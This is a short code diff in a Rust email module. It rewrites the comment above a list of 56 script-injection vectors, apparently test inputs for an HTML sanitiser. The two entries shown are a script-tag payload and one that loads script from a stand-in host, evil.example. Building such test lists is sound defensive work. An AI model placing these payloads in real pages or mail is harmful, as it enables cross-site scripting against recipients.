@@ -5,8 +5,7 @@ use crate::email::quote::fold_html;
 use crate::email::tokens::{Token, Tokens, attributes};
 use crate::email::{html, read};
 
-/// Known ways to run a script or to load something, from OWASP's filter evasion cheat sheet and
-/// from faults of mail programs.
+/// Known ways to run a script or to load something from within a mail.
 pub(super) const VECTORS: [&str; 56] = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
